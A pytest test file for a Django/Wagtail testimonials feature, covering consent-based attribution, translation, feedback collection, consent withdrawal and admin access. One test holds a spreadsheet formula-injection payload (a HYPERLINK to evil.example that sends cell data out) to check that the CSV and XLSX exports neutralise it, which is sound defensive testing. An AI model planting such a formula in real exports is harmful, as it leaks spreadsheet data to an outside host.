"""Testimonials: the public attribution, placing them on pages, collecting them with
consent after a workshop, and withdrawing that consent."""

from __future__ import annotations

import itertools
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.db import IntegrityError, transaction
from django.template import Context, Template
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wagtail.models import Locale, ModelLogEntry

from tests.factories import (
    RegistrationFactory,
    TeaserPageFactory,
    WorkshopPageFactory,
    admin_user,
    both_page_classes,
    feedback_form_data,
    route,
    translate,
    translate_snippet,
)
from tests.factories import (
    TestimonialFactory as QuoteFactory,
)
from wagtail_atelier.blocks import TestimonialBlock as QuoteBlock
from wagtail_atelier.models import (
    FeedbackAnswer,
    FeedbackRequest,
    Naming,
    OutgoingMail,
)
from wagtail_atelier.models import Testimonial as Quote
from wagtail_atelier.models.mail import MailKind
from wagtail_atelier.services import feedback as feedback_services
from wagtail_atelier.services.testimonial import localized, random_testimonials

pytestmark = [pytest.mark.django_db, both_page_classes]

FIRST, LAST, TOWN, ORG = "Firstmark", "Lastmark", "Townmark", "Orgmark"


# -- the attribution ------------------------------------------------------------------


ALLOWED = {
    # naming: which personal markers may show (organisation only when agreed)
    Naming.FULL_NAME: {FIRST, LAST},
    Naming.FIRST_NAME_AND_TOWN: {FIRST, TOWN},
    Naming.ROLE_ONLY: set(),
}


@pytest.mark.parametrize(
    ("naming", "show_organisation", "role", "role_description"),
    list(
        itertools.product(
            Naming.values,
            [True, False],
            ["participant", "case_presenter", "host_organisation"],
            ["", "Participante d’une communauté de soutien"],
        )
    ),
)
def test_the_attribution_shows_nothing_the_person_did_not_choose(
    naming, show_organisation, role, role_description
):
    # Every personal field is filled, whatever the choice: only the choice may pick.
    testimonial = Quote(
        quote="«L’atelier nous permet de sortir de notre bulle.»",
        naming=naming,
        first_name=FIRST,
        last_name=LAST,
        town=TOWN,
        organisation=ORG,
        show_organisation=show_organisation,
        role=role,
        role_description=role_description,
    )
    attribution = testimonial.attribution()
    text = str(attribution)
    allowed = set(ALLOWED[naming])
    if show_organisation and naming != Naming.ROLE_ONLY:
        allowed.add(ORG)
    shown = {marker for marker in (FIRST, LAST, TOWN, ORG) if marker in text}
    assert shown == allowed
    assert attribution.description == (
        role_description or testimonial.default_role_description
    )
    assert attribution.description in text
    if naming == Naming.ROLE_ONLY:
        assert attribution.name == "" and attribution.organisation == ""


def test_the_attribution_reads_naturally():
    testimonial = Quote(
        naming=Naming.FIRST_NAME_AND_TOWN,
        first_name="Anna",
        last_name="Muster",
        town="Suhr",
        organisation="Caring Community Suhr",
        show_organisation=True,
        role="case_presenter",
        role_description="Fallgeberin",
    )
    assert (
        str(testimonial.attribution())
        == "Anna, Suhr, Fallgeberin, Caring Community Suhr"
    )
    testimonial.naming = Naming.FULL_NAME
    testimonial.show_organisation = False
    assert str(testimonial.attribution()) == "Anna Muster, Fallgeberin"


@pytest.mark.parametrize(
    ("naming", "missing", "field"),
    [
        (Naming.FULL_NAME, {"last_name": ""}, "last_name"),
        (Naming.FULL_NAME, {"first_name": " "}, "first_name"),
        (Naming.FIRST_NAME_AND_TOWN, {"town": ""}, "town"),
    ],
)
def test_a_naming_needs_its_fields(locales, naming, missing, field):
    values = {"first_name": "Anna", "last_name": "Muster", "town": "Suhr", **missing}
    testimonial = QuoteFactory.build(naming=naming, **values)
    with pytest.raises(ValidationError) as error:
        testimonial.full_clean()
    assert field in error.value.message_dict


def test_a_shown_organisation_must_be_given(locales):
    testimonial = QuoteFactory.build(
        naming=Naming.FULL_NAME,
        first_name="Anna",
        last_name="Muster",
        show_organisation=True,
        organisation="",
    )
    with pytest.raises(ValidationError) as error:
        testimonial.full_clean()
    assert "organisation" in error.value.message_dict


# -- choosing what a visitor sees -----------------------------------------------------


@pytest.fixture
def quote_versions(locales):
    """The seed's quote in French (the original), with German and Italian versions."""
    french = QuoteFactory(
        locale=locales["fr"],
        quote="«L’atelier nous permet de sortir de notre bulle.»",
        role_description="Participante d’une communauté de soutien",
    )
    german = translate_snippet(
        french,
        "de",
        quote="«Die Praxiswerkstatt holt uns aus unserer Blase.»",
        role_description="Teilnehmerin einer Caring Community",
    )
    italian = translate_snippet(
        french,
        "it",
        quote="«Il laboratorio ci fa uscire dalla nostra bolla.»",
        role_description="Partecipante di una comunità solidale",
    )
    return {"fr": french, "de": german, "it": italian}


def test_the_visitor_gets_the_version_in_their_language(quote_versions):
    for language, version in quote_versions.items():
        [shown] = localized([version.translation_key], language)
        assert shown.pk == version.pk
        assert not shown.is_fallback


def test_without_a_live_translation_the_original_words_are_shown(quote_versions):
    Quote.objects.filter(pk=quote_versions["it"].pk).update(live=False)
    [shown] = localized([quote_versions["de"].translation_key], "it")
    assert shown.pk == quote_versions["fr"].pk
    assert shown.is_fallback


def test_drafts_and_withdrawn_testimonials_are_never_chosen(quote_versions, locales):
    draft = QuoteFactory(live=False)
    withdrawn = QuoteFactory(live=False, consent_withdrawn_at=timezone.now())
    assert localized([draft.translation_key, withdrawn.translation_key], "de") == []
    assert {
        t.translation_key for t in random_testimonials(count=10, language_code="de")
    } == {quote_versions["fr"].translation_key}


def test_localising_costs_one_query_whatever_the_number(
    locales, django_assert_num_queries
):
    keys = [QuoteFactory().translation_key for _ in range(12)]
    with django_assert_num_queries(1):
        assert len(localized(keys, "fr")) == 12


def test_random_testimonials_of_a_role(locales):
    QuoteFactory.create_batch(3, role="participant")
    presenters = QuoteFactory.create_batch(2, role="case_presenter")
    shown = random_testimonials(count=5, role="case_presenter", language_code="de")
    assert {t.pk for t in shown} == {t.pk for t in presenters}
    assert len(random_testimonials(count=2, language_code="de")) == 2
    assert random_testimonials(count=0, language_code="de") == []


# -- rendering ------------------------------------------------------------------------


def figures(html: str) -> list[str]:
    return re.findall(r"<figure.*?</figure>", html, flags=re.S)


def test_the_block_on_a_workshop_page_renders_a_quote_with_cite(
    client, workshop_versions, quote_versions
):
    german = workshop_versions["de"]
    german.body = [
        (
            "testimonials",
            {
                "heading": "Stimmen",
                "testimonials": [quote_versions["fr"]],
                "random_count": None,
                "random_role": "",
            },
        )
    ]
    german.save_revision().publish()
    french = workshop_versions["fr"]
    french.body = german.body
    french.save_revision().publish()
    html = client.get(german.url).content.decode()
    [figure] = figures(html)
    assert "<blockquote" in figure and "<cite>" in figure
    assert "Die Praxiswerkstatt holt uns aus unserer Blase." in figure
    assert "Teilnehmerin einer Caring Community" in figure
    assert "lang=" not in figure  # same language as the page
    html = client.get(french.url).content.decode()
    [figure] = figures(html)
    assert "sortir de notre bulle" in figure


def test_a_quote_in_another_language_is_marked(client, workshop, quote_versions):
    Quote.objects.filter(pk=quote_versions["de"].pk).update(live=False)
    workshop.body = [
        (
            "testimonials",
            {"testimonials": [quote_versions["de"]], "random_count": None},
        )
    ]
    workshop.save_revision().publish()
    [figure] = figures(client.get(workshop.url).content.decode())
    assert 'lang="fr"' in figure
    assert "sortir de notre bulle" in figure


def test_unpublished_testimonials_are_left_out_of_the_block(client, workshop, locales):
    draft = QuoteFactory(live=False, quote="ENTWURF-QUOTE")
    workshop.body = [("testimonials", {"testimonials": [draft], "random_count": None})]
    workshop.save_revision().publish()
    html = client.get(workshop.url).content.decode()
    assert "ENTWURF-QUOTE" not in html
    assert "atelier-testimonials" not in html


def test_the_block_needs_a_choice_or_a_number():
    block = QuoteBlock()
    value = block.to_python({"heading": "", "testimonials": [], "random_count": None})
    with pytest.raises(ValidationError):
        block.clean(value)


def test_the_block_works_on_any_page(translated_roots, quote_versions):
    page = TeaserPageFactory(parent=translated_roots["it"].specific, title="Casa")
    block = QuoteBlock()
    value = block.to_python(
        {"heading": "", "testimonials": [], "random_count": 3, "random_role": ""}
    )
    html = block.render(value, context={"page": page})
    [figure] = figures(html)
    assert "uscire dalla nostra bolla" in figure


def test_the_template_tag(quote_versions, translated_roots):
    template = Template(
        "{% load wagtail_atelier_tags %}"
        '{% atelier_testimonials count=3 role="participant" heading="Voix" %}'
    )
    html = template.render(Context({"page": translated_roots["fr"]}))
    [figure] = figures(html)
    assert "sortir de notre bulle" in figure
    assert "Voix" in html
    none = Template(
        "{% load wagtail_atelier_tags %}"
        '{% atelier_testimonials role="case_presenter" %}'
    ).render(Context({"page": translated_roots["fr"]}))
    assert "<figure" not in none
    one = Template(
        "{% load wagtail_atelier_tags %}{% atelier_testimonials testimonial=quote %}"
    ).render(Context({"page": translated_roots["de"], "quote": quote_versions["it"]}))
    assert "holt uns aus unserer Blase" in one


def test_testimonials_of_a_workshop(workshop_versions, quote_versions, locales):
    for version in quote_versions.values():
        Quote.objects.filter(pk=version.pk).update(workshop=workshop_versions["fr"])
    other = QuoteFactory(quote="ANDERE-WERKSTATT")
    html = Template(
        "{% load wagtail_atelier_tags %}"
        "{% atelier_testimonials count=5 workshop=workshop %}"
    ).render(
        Context({"page": workshop_versions["de"], "workshop": workshop_versions["it"]})
    )
    assert "holt uns aus unserer Blase" in html
    assert other.quote not in html


# -- collecting: the feedback mail ----------------------------------------------------


@pytest.fixture
def past_workshop(indexes):
    """A German workshop that ended three days ago, with French and Italian pages."""
    german = WorkshopPageFactory(
        parent=indexes["de"],
        title="Praxiswerkstatt Aarau",
        slug="aarau",
        start_at=timezone.now() - timedelta(days=3, hours=3),
    )
    translate(german, "fr", title="Atelier pratique Aarau")
    translate(german, "it", title="Laboratorio pratico Aarau")
    return german


@pytest.fixture
def attended(past_workshop):
    """Who attended (one per language), who did not, who cancelled."""
    french_page = past_workshop.get_translation(Locale.objects.get(language_code="fr"))
    return {
        "de": RegistrationFactory(
            workshop=past_workshop,
            attended_at=timezone.now(),
            first_name="Anna",
            last_name="Muster",
            town="Suhr",
            organisation="Caring Community Suhr",
        ),
        "fr": RegistrationFactory(
            workshop=french_page,
            attended_at=timezone.now(),
            role="case_presenter",
            first_name="Chloé",
            last_name="Martin",
            town="Sion",
            organisation="Communauté de soutien de Sion",
        ),
        "absent": RegistrationFactory(workshop=past_workshop),
        "cancelled": RegistrationFactory(
            workshop=past_workshop, status="cancelled", attended_at=timezone.now()
        ),
    }


def feedback_mails():
    return [m for m in mail.outbox if "feedback/" in m.body]


def link_in(message) -> str:
    return re.search(r"http://\S+/feedback/\S+/", message.body).group(0)


def test_people_who_attended_get_one_feedback_mail_in_their_language(
    attended, django_capture_on_commit_callbacks, client
):
    with django_capture_on_commit_callbacks(execute=True):
        assert feedback_services.send_due_feedback_requests() == 2
    with django_capture_on_commit_callbacks(execute=True):
        assert feedback_services.send_due_feedback_requests() == 0  # once only
    messages = feedback_mails()
    assert sorted(m.to[0] for m in messages) == sorted(
        [attended["de"].email, attended["fr"].email]
    )
    french = next(m for m in messages if m.to == [attended["fr"].email])
    assert "Bonjour Chloé" in french.body or "Chloé" in french.body
    assert "/fr/" in link_in(french)
    response = client.get(link_in(french).replace("http://testserver", ""))
    assert response.status_code == 200
    assert 'lang="fr"' in response.content.decode()
    assert "Chloé Martin" in response.content.decode()  # the naming choice shows it
    assert OutgoingMail.objects.filter(kind=MailKind.FEEDBACK_REQUEST).count() == 2


def test_the_feedback_mail_waits_the_configured_days(attended):
    with override_settings(WAGTAIL_ATELIER_FEEDBACK_DAYS=4):
        assert feedback_services.send_due_feedback_requests() == 0
    assert feedback_services.send_due_feedback_requests() == 2


def test_old_workshops_are_not_mailed(attended):
    later = timezone.now() + timedelta(days=40)
    assert feedback_services.send_due_feedback_requests(now=later) == 0


def test_the_command_and_the_task(attended, capsys):
    call_command("atelier_send_feedback_requests")
    assert "2 feedback request(s) queued" in capsys.readouterr().out
    from wagtail_atelier.tasks import send_feedback_requests

    assert send_feedback_requests.call() == 0


# -- collecting: the answer -----------------------------------------------------------


@pytest.fixture
def requests_sent(attended):
    feedback_services.send_due_feedback_requests()
    return {
        key: FeedbackRequest.objects.get(registration=registration)
        for key, registration in attended.items()
        if key in ("de", "fr")
    }


def feedback_url(feedback_request, language="de") -> str:
    page = feedback_services.live_workshop_version(
        feedback_request.workshop_key, language
    )
    return route(page, "feedback", feedback_request.token)


@pytest.mark.parametrize(
    ("naming", "show_organisation", "stored", "not_stored"),
    [
        (
            "full_name",
            "",
            {"first_name": "Chloé", "last_name": "Martin"},
            ("town", "organisation"),
        ),
        (
            "first_name_town",
            "on",
            {
                "first_name": "Chloé",
                "town": "Sion",
                "organisation": "Communauté de soutien de Sion",
            },
            ("last_name",),
        ),
        ("role_only", "on", {}, ("first_name", "last_name", "town", "organisation")),
    ],
)
def test_an_answer_with_consent_becomes_a_draft_in_the_persons_language(
    client, requests_sent, naming, show_organisation, stored, not_stored
):
    feedback_request = requests_sent["fr"]
    response = client.post(
        feedback_url(feedback_request, "fr"),
        feedback_form_data(
            takeaway="Il faut du courage pour amener une question.",
            naming=naming,
            show_organisation=show_organisation,
        ),
    )
    assert response.status_code == 302
    answer = FeedbackAnswer.objects.get(request=feedback_request)
    assert answer.may_quote and answer.naming == naming
    testimonial = Quote.objects.get(feedback_answer=answer)
    assert not testimonial.live
    assert testimonial.locale.language_code == "fr"
    assert testimonial.role == "case_presenter"
    assert testimonial.quote == "Il faut du courage pour amener une question."
    assert testimonial.consent_method == "feedback_form"
    assert testimonial.consent_text_version == "1"
    assert testimonial.workshop.locale.language_code == "fr"
    for name, value in stored.items():
        assert getattr(testimonial, name) == value
    # What the person did not agree to show is not even copied.
    for name in not_stored:
        assert getattr(testimonial, name) == ""
    assert testimonial.revisions.count() == 1
    assert ModelLogEntry.objects.filter(
        object_id=str(testimonial.pk),
        action=feedback_services.DRAFT_FROM_FEEDBACK_ACTION,
    ).exists()
    thanks = client.get(response["Location"])
    assert "Merci" in thanks.content.decode() or thanks.status_code == 200


def test_an_answer_without_consent_makes_no_testimonial(client, requests_sent):
    feedback_request = requests_sent["de"]
    client.post(
        feedback_url(feedback_request),
        feedback_form_data(may_quote=None, naming=None),
    )
    answer = FeedbackAnswer.objects.get(request=feedback_request)
    assert not answer.may_quote and answer.naming == ""
    assert not Quote.objects.exists()


def test_consent_needs_a_naming_choice(client, requests_sent):
    feedback_request = requests_sent["fr"]
    response = client.post(
        feedback_url(feedback_request, "fr"), feedback_form_data(naming=None)
    )
    assert response.status_code == 200
    assert "atelier-error-summary" in response.content.decode()
    assert not FeedbackAnswer.objects.exists()
    assert not Quote.objects.exists()


def test_errors_are_in_the_page_language(client, requests_sent):
    response = client.post(
        feedback_url(requests_sent["fr"], "fr"), feedback_form_data(takeaway="")
    )
    assert required_message("fr") in response.content.decode()
    response = client.post(
        feedback_url(requests_sent["de"], "de"), feedback_form_data(takeaway="")
    )
    assert required_message("de") in response.content.decode()
    assert required_message("de") != required_message("fr")


def required_message(language: str) -> str:
    from django import forms
    from django.utils import translation

    with translation.override(language):
        return str(forms.Field.default_error_messages["required"])


def test_the_first_answer_counts(client, requests_sent):
    url = feedback_url(requests_sent["de"])
    client.post(url, feedback_form_data(takeaway="Erste Antwort"))
    response = client.post(url, feedback_form_data(takeaway="Zweite Antwort"))
    assert response.status_code == 200
    assert FeedbackAnswer.objects.get().takeaway == "Erste Antwort"
    assert Quote.objects.count() == 1


@pytest.mark.parametrize(
    "mangle",
    [
        lambda token: token[:-1] + ("A" if token[-1] != "A" else "B"),
        lambda token: token + "x",
        lambda token: "x" * 43,
        lambda token: token[:10],
    ],
)
def test_a_tampered_link_is_not_found(client, requests_sent, mangle):
    feedback_request = requests_sent["de"]
    page = feedback_services.live_workshop_version(feedback_request.workshop_key, "de")
    token = mangle(feedback_request.token)
    assert client.get(route(page, "feedback", token)).status_code == 404
    assert (
        client.post(route(page, "feedback", token), feedback_form_data()).status_code
        == 404
    )
    assert client.post(route(page, "withdraw_consent", token)).status_code == 404
    assert not FeedbackAnswer.objects.exists()


def test_a_link_only_works_on_its_own_workshop(client, requests_sent, indexes):
    other = WorkshopPageFactory(parent=indexes["de"], slug="andere")
    assert (
        client.get(route(other, "feedback", requests_sent["de"].token)).status_code
        == 404
    )


def test_feedback_pages_are_private(client, requests_sent):
    response = client.get(feedback_url(requests_sent["de"]))
    assert response["Referrer-Policy"] == "same-origin"
    assert "noindex" in response["X-Robots-Tag"]
    assert (
        "no-cache" in response["Cache-Control"]
        or "max-age=0" in response["Cache-Control"]
    )


FEEDBACK_FIELDS = ["takeaway", "may_quote", "naming", "show_organisation"]
fuzz_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300)
fuzz_values = st.one_of(
    fuzz_text,
    st.sampled_from(
        [
            "",
            "on",
            "off",
            "true",
            "full_name",
            "first_name_town",
            "role_only",
            "x" * 1200,
        ]
    ),
    st.lists(st.one_of(fuzz_text, st.sampled_from(Naming.values)), max_size=3),
)


@pytest.mark.slow
@settings(  # max_examples: the profile's (tests/conftest.py)
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    changes=st.dictionaries(
        st.sampled_from(FEEDBACK_FIELDS), st.one_of(st.none(), fuzz_values)
    ),
    language=st.sampled_from(["de", "fr"]),
)
def test_fuzzing_the_feedback_form_never_fails(
    client, requests_sent, changes, language
):
    feedback_request = requests_sent[language]
    # Every example starts unanswered, so the form is always there to be fuzzed.
    Quote.objects.all().delete()
    FeedbackAnswer.objects.all().delete()
    response = client.post(
        feedback_url(feedback_request, language), feedback_form_data(**changes)
    )
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert not FeedbackAnswer.objects.exists()
        assert not Quote.objects.exists()
    else:
        answer = FeedbackAnswer.objects.get()
        assert Quote.objects.exists() == answer.may_quote
        for quote in Quote.objects.all():
            assert not quote.live


# -- withdrawing consent --------------------------------------------------------------


@pytest.fixture
def published_from_feedback(client, requests_sent):
    """Chloé's answer, published by an editor in French, German and Italian."""
    feedback_request = requests_sent["fr"]
    client.post(
        feedback_url(feedback_request, "fr"),
        feedback_form_data(takeaway="Il faut du courage.", naming="first_name_town"),
    )
    french = Quote.objects.get()
    french.save_revision().publish()
    german = translate_snippet(french, "de", quote="Es braucht Mut.")
    italian = translate_snippet(french, "it", quote="Ci vuole coraggio.")
    return feedback_request, [french, german, italian]


def localize(testimonial, language_code: str, quote: str):
    """Translate ``testimonial`` with wagtail-localize, as a translator does: a
    source, the translated string, the translation published."""
    from wagtail_localize.models import StringTranslation, TranslationSource

    locale = Locale.objects.get(language_code=language_code)
    source, _created = TranslationSource.get_or_create_from_instance(testimonial)
    for segment in source.stringsegment_set.select_related("string", "context"):
        if segment.context.path == "quote":
            StringTranslation.objects.create(
                translation_of=segment.string,
                locale=locale,
                context=segment.context,
                data=quote,
            )
    translated, _created = source.create_or_update_translation(locale)
    return Quote.objects.get(pk=translated.pk)


def test_withdrawing_deletes_every_language_at_once(
    client, published_from_feedback, workshop
):
    from wagtail.models import Revision
    from wagtail_localize.models import String, StringTranslation, TranslationSource

    feedback_request, versions = published_from_feedback
    # One more language, translated with wagtail-localize: its strings hold quotes.
    german_key = versions[0].translation_key
    Quote.objects.filter(pk=versions[1].pk).delete()
    german = localize(versions[0], "de", "Es braucht Mut.")
    versions[1] = german
    assert String.objects.filter(data="Il faut du courage.").exists()
    workshop.body = [("testimonials", {"testimonials": [german], "random_count": None})]
    workshop.save_revision().publish()
    assert "Es braucht Mut." in client.get(workshop.url).content.decode()

    url = feedback_url(feedback_request, "fr")
    page = client.get(url).content.decode()
    assert "withdraw" in page
    confirm = route(
        feedback_services.live_workshop_version(feedback_request.workshop_key, "fr"),
        "withdraw_consent",
        feedback_request.token,
    )
    response = client.get(confirm)
    assert response.status_code == 200
    with translation.override("fr"):
        what_happens = gettext(
            "Do you want to withdraw your consent to be quoted? Your quote is then "
            "deleted at once, in every language, together with your name and the "
            "text of your answer. This cannot be undone."
        )
        done_text = gettext(
            "Your quote has been deleted, in every language, together with your "
            "name and the text of your answer. It can no longer be published."
        )
    assert what_happens in response.content.decode()  # says what will happen
    assert Quote.objects.count() == 3  # GET changes nothing
    response = client.post(confirm)
    assert response.status_code == 302
    # Every language version, its revisions and its translation data are gone.
    assert not Quote.objects.filter(translation_key=german_key).exists()
    assert not Revision.objects.filter(
        object_id__in=[str(v.pk) for v in versions],
        base_content_type__model="testimonial",
    ).exists()
    assert not TranslationSource.objects.filter(object_id=german_key).exists()
    for text in ("Il faut du courage.", "Es braucht Mut.", "Ci vuole coraggio."):
        assert not String.objects.filter(data=text).exists(), text
        assert not StringTranslation.objects.filter(data=text).exists(), text
    # Only the fact and the date of the withdrawal are kept.
    answer = FeedbackAnswer.objects.get()
    assert answer.consent_withdrawn_at is not None
    assert answer.takeaway == ""
    # The log says it happened, and nothing of the quote.
    entries = ModelLogEntry.objects.filter(
        action=feedback_services.CONSENT_WITHDRAWN_ACTION
    )
    assert entries.count() == 3
    for entry in ModelLogEntry.objects.all():
        assert "courage" not in entry.label and "Mut" not in entry.label
    # The page says so, also later.
    done = client.get(response.url)
    assert done.status_code == 200
    assert done_text in done.content.decode()
    assert "Es braucht Mut." not in client.get(workshop.url).content.decode()
    # Twice is harmless.
    assert feedback_services.withdraw_consent(feedback_request) == 0
    assert client.post(confirm).status_code == 302


def test_after_a_withdrawal_nothing_is_left_to_publish(published_from_feedback):
    from wagtail.models import Revision

    feedback_request, versions = published_from_feedback
    revision = versions[0].latest_revision
    assert feedback_services.withdraw_consent(feedback_request) == 3
    # Not even an old revision, nor one scheduled for publication.
    assert not Revision.objects.filter(pk=revision.pk).exists()
    assert not Quote.objects.exists()


def test_a_withdrawn_testimonial_can_never_go_live(locales):
    # Testimonials marked withdrawn before withdrawals deleted them stay offline.
    withdrawn = QuoteFactory(live=False, consent_withdrawn_at=timezone.now())
    with pytest.raises(ValidationError):
        withdrawn.full_clean()
    with pytest.raises(IntegrityError), transaction.atomic():
        Quote.objects.filter(pk=withdrawn.pk).update(live=True)


def test_without_consent_there_is_nothing_to_withdraw(client, requests_sent):
    feedback_request = requests_sent["de"]
    client.post(feedback_url(feedback_request), feedback_form_data(may_quote=None))
    page = feedback_services.live_workshop_version(feedback_request.workshop_key, "de")
    response = client.post(route(page, "withdraw_consent", feedback_request.token))
    assert response.status_code == 302
    assert FeedbackAnswer.objects.get().consent_withdrawn_at is None


# -- never public ---------------------------------------------------------------------


def test_feedback_answers_never_show_on_public_pages(client, requests_sent, workshop):
    client.post(
        feedback_url(requests_sent["de"]),
        feedback_form_data(takeaway="GEHEIME-ANTWORT-4711", may_quote=None),
    )
    for url in [workshop.url, requests_sent["de"] and route(workshop, "ical")]:
        assert "GEHEIME-ANTWORT-4711" not in client.get(url).content.decode()
    search = client.get("/de/", {"q": "GEHEIME-ANTWORT-4711"})
    assert "GEHEIME-ANTWORT-4711" not in search.content.decode()
    from wagtail.search.index import class_is_indexed

    assert not class_is_indexed(FeedbackAnswer)
    assert not class_is_indexed(Quote)


# -- the snippet admin ----------------------------------------------------------------


@pytest.fixture
def snippet_users(django_user_model):
    return {
        "editor": admin_user(django_user_model, "editor"),
        "testimonial_editor": admin_user(
            django_user_model,
            "testimonial_editor",
            "wagtail_atelier.add_testimonial",
            "wagtail_atelier.change_testimonial",
            "wagtail_atelier.publish_testimonial",
        ),
    }


def snippet_urls(testimonial) -> dict[str, str]:
    return {
        "index": reverse("wagtailsnippets_wagtail_atelier_testimonial:list"),
        "add": reverse("wagtailsnippets_wagtail_atelier_testimonial:add"),
        "edit": reverse(
            "wagtailsnippets_wagtail_atelier_testimonial:edit", args=[testimonial.pk]
        ),
        "inspect": reverse(
            "wagtailsnippets_wagtail_atelier_testimonial:inspect", args=[testimonial.pk]
        ),
        "history": reverse(
            "wagtailsnippets_wagtail_atelier_testimonial:history", args=[testimonial.pk]
        ),
        "delete": reverse(
            "wagtailsnippets_wagtail_atelier_testimonial:delete", args=[testimonial.pk]
        ),
    }


def test_snippet_admin_permissions(client, snippet_users, locales):
    testimonial = QuoteFactory(
        live=False,
        naming="full_name",
        first_name="Zoé",
        last_name="Verborgenhuber",
        quote="ZITAT-GEHEIM",
    )
    for name, url in snippet_urls(testimonial).items():
        client.logout()
        response = client.get(url)
        assert response.status_code == 302, name
        assert "/admin/login/" in response["Location"], name

        client.force_login(snippet_users["editor"])
        response = client.get(url)
        assert response.status_code in (302, 403), name
        assert "Verborgenhuber" not in response.content.decode(), name

        client.force_login(snippet_users["testimonial_editor"])
        response = client.get(url)
        if name == "delete":
            assert response.status_code in (302, 403), name  # no delete permission
        else:
            assert response.status_code == 200, name


def test_snippet_listing_filters_and_search(admin_client, quote_versions, workshop):
    Quote.objects.filter(pk=quote_versions["de"].pk).update(workshop=workshop)
    QuoteFactory(role="case_presenter", quote="Mut zur Frage", live=False)
    index = reverse("wagtailsnippets_wagtail_atelier_testimonial:list")
    html = admin_client.get(index).content.decode()
    assert "Blase" in html and "Mut zur Frage" in html

    def listed(**params):
        return admin_client.get(index, params).content.decode()

    assert "Mut zur Frage" not in listed(role="participant")
    assert "Mut zur Frage" in listed(role="case_presenter")
    assert "Mut zur Frage" not in listed(live="true")
    assert "Mut zur Frage" in listed(live="false")
    html = listed(locale="it")
    assert "uscire dalla nostra bolla" in html and "Blase" not in html
    html = listed(workshop=workshop.pk)
    assert "Blase" in html and "bolla" not in html
    html = listed(q="Mut")
    assert "Mut zur Frage" in html and "Blase" not in html


def edit_form_data(testimonial, **changes) -> dict:
    data = {
        "quote": testimonial.quote,
        "role": testimonial.role,
        "role_description": testimonial.role_description,
        "naming": testimonial.naming,
        "first_name": testimonial.first_name,
        "last_name": testimonial.last_name,
        "town": testimonial.town,
        "organisation": testimonial.organisation,
        "workshop": testimonial.workshop_id or "",
        "consent_given_at": timezone.localtime(testimonial.consent_given_at).strftime(
            "%Y-%m-%d %H:%M"
        ),
        "consent_method": testimonial.consent_method,
        "consent_text_version": testimonial.consent_text_version,
        "consent_note": testimonial.consent_note,
    }
    if testimonial.show_organisation:
        data["show_organisation"] = "on"
    data.update(changes)
    return data


def test_an_editor_publishes_a_draft_from_feedback(
    client, requests_sent, snippet_users
):
    # The same path runs in a real browser in test_issue4_browser.py.
    client.post(
        feedback_url(requests_sent["fr"], "fr"),
        feedback_form_data(takeaway="Il faut du courage.", naming="first_name_town"),
    )
    draft = Quote.objects.get()
    client.force_login(snippet_users["testimonial_editor"])
    url = snippet_urls(draft)["edit"]
    assert client.get(url).status_code == 200
    response = client.post(url, edit_form_data(draft, **{"action-publish": "1"}))
    assert response.status_code == 302, response.content.decode()[:3000]
    draft.refresh_from_db()
    assert draft.live
    assert draft.consent_method == "feedback_form"  # the consent record is kept
    assert draft.feedback_answer is not None


def test_a_withdrawn_testimonial_is_gone_from_the_admin(
    admin_client, published_from_feedback
):
    feedback_request, versions = published_from_feedback
    feedback_services.withdraw_consent(feedback_request)
    url = snippet_urls(versions[0])["edit"]
    assert admin_client.get(url, follow=True).status_code == 404
    # No copy that would carry the quote without the withdrawal.
    from django.urls import NoReverseMatch

    with pytest.raises(NoReverseMatch):
        reverse("wagtailsnippets_wagtail_atelier_testimonial:copy", args=[1])


def test_the_csv_export_neutralises_formulas(admin_client, locales):
    import csv
    import io

    import openpyxl

    formula = '=HYPERLINK("https://evil.example/?q="&A1,"Mehr lesen")'
    QuoteFactory(quote=formula, naming="full_name", first_name="+SUM(1)", last_name="X")
    index = reverse("wagtailsnippets_wagtail_atelier_testimonial:list")
    response = admin_client.get(index, {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    response = admin_client.get(index, {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert "'" + formula in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
